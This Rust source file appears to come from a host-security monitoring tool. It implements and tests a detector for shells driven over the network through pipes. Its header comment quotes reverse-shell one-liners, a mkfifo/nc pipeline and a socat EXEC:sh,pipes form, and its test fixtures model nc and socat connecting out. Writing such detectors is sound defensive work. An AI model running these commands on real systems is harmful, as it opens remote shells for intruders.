//! A shell that takes its commands from a connection through pipes.
//!
//! `mkfifo f; sh < f | nc host port > f`, `socat … EXEC:sh,pipes`, a script that connects and talks to a child shell: the
//! shell itself has only pipes, the connection is held by another process. Found from both sides, since either may be
//! there first: when the shell starts, and when the other side connects.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use watchfire_event::{Body, Kind, Level, Outcome, Process, ProcessKey, Stdio};
use watchfire_rule::KindSet;

use crate::detectors::{Detector, DetectorInfo, Finding, Sight, programs};
use crate::memory::Expiring;

pub(crate) const INFO: DetectorInfo = DetectorInfo {
    slug: "reverse_shell_pipe",
    title: "Shell driven over the network through pipes",
    description: "A shell without script or -c has pipes as stdin and stdout, and the process at their other end, or \
                  its parent, holds a network connection.",
    attack: &["T1059.004", "T1071"],
    level: Level::High,
    falsepositives: "Home-made remote administration that feeds commands to a child shell; known agents are left out.",
};

const CHILDREN: usize = 512;
const CHILDREN_FOR: Duration = Duration::from_secs(600);

/// See the module.
pub(crate) struct ReverseShellPipe {
    /// Waiting shells by their parent, for a parent that connects later.
    children: Expiring<ProcessKey, Arc<Process>>,
}

impl ReverseShellPipe {
    pub(crate) fn new() -> Self {
        ReverseShellPipe { children: Expiring::new(CHILDREN, CHILDREN_FOR) }
    }

    fn shell_started(&mut self, sight: &Sight<'_>, out: &mut Vec<Finding>) {
        let shell = &sight.event.process;
        if !waits_on_pipes(shell) {
            return;
        }
        let now = sight.event.at;
        if let Some(remote) = shell.stdio[1].remote() {
            return out.push(finding(shell, shell, Some(remote), "its stdout is the connection"));
        }
        let reader = sight.scene.readers(shell, now).iter().find_map(|reader| {
            let remote = sight.scene.connected(reader.key, now)?;
            (reader.key != shell.key).then_some((reader, remote))
        });
        if let Some((reader, remote)) = reader {
            return out.push(finding(shell, reader, Some(remote), "reads the shell's output"));
        }
        let ancestors = sight.lineage.parents(shell);
        let parent = sight.event.parent.clone().or_else(|| ancestors.first().cloned());
        let Some(parent) = parent else { return };
        if ancestors.iter().take(3).any(|one| programs::administers_remotely(one))
            || programs::administers_remotely(&parent)
        {
            return;
        }
        let holder = [Some(&parent), ancestors.get(1)].into_iter().flatten().find(|one| {
            // A grandparent counts only for a relay, which forks once for the connection and again for the shell.
            sight.scene.connected(one.key, now).is_some()
                && (one.key == parent.key || programs::is_relay(one))
        });
        if let Some(holder) = holder {
            let remote = sight.scene.connected(holder.key, now);
            return out.push(finding(shell, holder, remote, "started the shell"));
        }
        if programs::is_relay(&parent) {
            return out.push(finding(shell, &parent, None, "started the shell"));
        }
        self.children.insert(parent.key, Arc::clone(shell), now);
    }

    fn connected(&mut self, sight: &Sight<'_>, remote: SocketAddr, out: &mut Vec<Finding>) {
        let (event, now) = (sight.event, sight.event.at);
        let holder = &event.process;
        if programs::administers_remotely(holder) {
            return;
        }
        // Whoever writes into this process' stdin: a shell that waits on pipes itself?
        let feeding = sight.scene.feeders(holder, now).iter();
        for shell in feeding.filter(|one| one.key != holder.key && waits_on_pipes(one)) {
            out.push(finding(shell, holder, Some(remote), "reads the shell's output"));
        }
        if let Some(shell) = self.children.take(&holder.key, now) {
            out.push(finding(&shell, holder, Some(remote), "started the shell"));
        }
    }
}

impl Detector for ReverseShellPipe {
    fn info(&self) -> &'static DetectorInfo {
        &INFO
    }

    fn wants(&self) -> KindSet {
        KindSet::of(&[Kind::Exec, Kind::Connect, Kind::Accept])
    }

    fn judge(&mut self, sight: &Sight<'_>, out: &mut Vec<Finding>) {
        match &sight.event.body {
            Body::Exec => self.shell_started(sight, out),
            Body::Connect(flow) | Body::Accept(flow) if flow.outcome == Outcome::Succeeded => {
                self.connected(sight, flow.remote, out);
            }
            _ => {}
        }
    }

    fn forgotten(&self) -> u64 {
        self.children.forgotten()
    }
}

/// A shell that takes commands from a pipe and answers into another, or into a connection.
fn waits_on_pipes(process: &Process) -> bool {
    programs::is_shell(process)
        && matches!(process.stdio[0], Stdio::Pipe(_))
        && matches!(process.stdio[1], Stdio::Pipe(_) | Stdio::Inet(_))
        && programs::takes_commands_from_stdin(process)
}

fn finding(shell: &Arc<Process>, holder: &Process, remote: Option<SocketAddr>, how: &str) -> Finding {
    let mut finding = Finding::about(shell)
        .with("process.exe", &shell.exe)
        .with("process.stdin", shell.stdio[0].as_str())
        .with("process.stdout", shell.stdio[1].as_str())
        .with("connection.how", how)
        .with("connection.exe", &holder.exe)
        .with_argv("connection.argv", &holder.argv);
    if let Some(remote) = remote {
        finding = finding.with("connection.remote", remote.to_string());
    }
    finding
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::testing::{Stage, connect, event, process, with_stdio};

    fn shell(stdin: u64, stdout: u64) -> Process {
        with_stdio(process(20, 10, "/usr/bin/dash", &["sh", "-i"]), Stdio::Pipe(stdin), Stdio::Pipe(stdout))
    }

    fn netcat(stdin: u64) -> Process {
        with_stdio(
            process(30, 10, "/usr/bin/nc.openbsd", &["nc", "10.0.0.1", "4444"]),
            Stdio::Pipe(stdin),
            Stdio::Pipe(99),
        )
    }

    #[test]
    fn a_fifo_and_netcat_are_found_whichever_comes_first() {
        let mut late = Stage::new(ReverseShellPipe::new());
        assert!(late.see(&event(1, shell(1, 2), Body::Exec)).is_empty());
        assert!(late.see(&event(1, netcat(2), Body::Exec)).is_empty());
        let found = late.see(&event(2, netcat(2), connect("10.0.0.1:4444")));
        assert_eq!(found[0].process.key.tgid, 20);
        assert!(found[0].matched.iter().any(|field| field.value == "10.0.0.1:4444"));

        let mut early = Stage::new(ReverseShellPipe::new());
        assert!(early.see(&event(1, netcat(2), Body::Exec)).is_empty());
        assert!(early.see(&event(1, netcat(2), connect("10.0.0.1:4444"))).is_empty());
        assert_eq!(early.see(&event(2, shell(1, 2), Body::Exec)).len(), 1);
    }

    #[test]
    fn a_parent_that_connects_before_or_after_counts_and_an_administrator_does_not() {
        let python = || process(10, 1, "/usr/bin/python3.11", &["python3", "x.py"]);
        for connects_first in [true, false] {
            let mut stage = Stage::new(ReverseShellPipe::new());
            let mut exec = event(2, shell(1, 2), Body::Exec);
            exec.parent = Some(Arc::new(python()));
            let net = event(1, python(), connect("10.0.0.1:4444"));
            let found = if connects_first {
                stage.see(&net);
                stage.see(&exec)
            } else {
                stage.see(&exec);
                stage.see(&net)
            };
            assert_eq!(found.len(), 1, "{connects_first}");
        }
        let mut stage = Stage::new(ReverseShellPipe::new());
        let sshd = process(10, 1, "/usr/sbin/sshd", &["sshd: user"]);
        stage.see(&event(1, sshd.clone(), connect("10.0.0.1:4444")));
        let mut exec = event(2, shell(1, 2), Body::Exec);
        exec.parent = Some(Arc::new(sshd));
        assert!(stage.see(&exec).is_empty());
    }

    #[test]
    fn a_relay_needs_no_connection_of_its_own_to_be_seen() {
        let mut stage = Stage::new(ReverseShellPipe::new());
        let mut exec = event(2, shell(1, 2), Body::Exec);
        exec.parent =
            Some(Arc::new(process(10, 1, "/usr/bin/socat", &["socat", "TCP:x:1", "EXEC:sh,pipes"])));
        assert_eq!(stage.see(&exec).len(), 1);
    }

    #[test]
    fn commands_run_by_a_daemon_and_pipelines_without_network_stay_quiet() {
        let mut stage = Stage::new(ReverseShellPipe::new());
        let daemon = process(10, 1, "/usr/bin/java", &["java", "-jar", "agent.jar"]);
        stage.see(&event(1, daemon.clone(), connect("10.0.0.1:443")));
        let command = process(20, 10, "/usr/bin/dash", &["sh", "-c", "df -h"]);
        let mut exec = event(2, with_stdio(command, Stdio::Pipe(1), Stdio::Pipe(2)), Body::Exec);
        exec.parent = Some(Arc::new(daemon));
        assert!(stage.see(&exec).is_empty());
        assert!(stage.see(&event(3, shell(5, 6), Body::Exec)).is_empty());
        let sort = with_stdio(process(31, 10, "/usr/bin/sort", &["sort"]), Stdio::Pipe(6), Stdio::Tty);
        assert!(stage.see(&event(3, sort, Body::Exec)).is_empty());
    }
}
